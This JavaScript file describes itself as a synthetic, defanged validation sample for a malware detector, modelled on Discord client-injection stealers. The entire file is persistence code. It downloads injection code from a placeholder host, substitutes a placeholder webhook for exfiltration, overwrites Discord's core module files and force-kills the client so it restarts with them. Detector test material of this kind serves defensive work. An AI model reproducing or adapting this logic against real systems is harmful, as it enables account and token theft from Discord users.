// SYNTHETIC, DEFANGED malwi validation sample - modelled on Discord client-injection stealers (PirateStealer style, 2021-2022); never run.
// Persistence: rewrite the Discord desktop client's core module so every start runs the
// injected code, then kill the client so it restarts with it.
const fs = require('fs');
const path = require('path');
const { execSync } = require('child_process');

const INJECTION_URL = 'https://raw.injector.example.invalid/injection/index.js';

function coreFiles() {
  const local = process.env.LOCALAPPDATA || '';
  const out = [];
  for (const flavour of ['Discord', 'DiscordCanary', 'DiscordPTB', 'DiscordDevelopment']) {
    const base = path.join(local, flavour);
    if (!fs.existsSync(base)) continue;
    for (const app of fs.readdirSync(base).filter((d) => d.startsWith('app-'))) {
      const modules = path.join(base, app, 'modules');
      if (!fs.existsSync(modules)) continue;
      for (const m of fs.readdirSync(modules).filter((d) => d.startsWith('discord_desktop_core'))) {
        out.push(path.join(modules, m, 'discord_desktop_core', 'index.js'));
      }
    }
  }
  return out;
}

function fetchInjection(cb) {
  require('https')
    .get(INJECTION_URL, (res) => {
      let body = '';
      res.on('data', (c) => (body += c));
      res.on('end', () => cb(body.replace('%WEBHOOK%', 'https://discord.example.invalid/api/webhooks/000000000000000000/PLACEHOLDER_WEBHOOK_TOKEN')));
    })
    .on('error', () => {});
}

fetchInjection((code) => {
  for (const file of coreFiles()) {
    try {
      fs.writeFileSync(file, code + "\nmodule.exports = require('./core.asar');");
      const dir = path.join(path.dirname(file), 'initiation');
      if (!fs.existsSync(dir)) fs.mkdirSync(dir);
    } catch (e) {}
  }
  try {
    execSync('taskkill /IM Discord.exe /F', { stdio: 'ignore' });
  } catch (e) {}
});
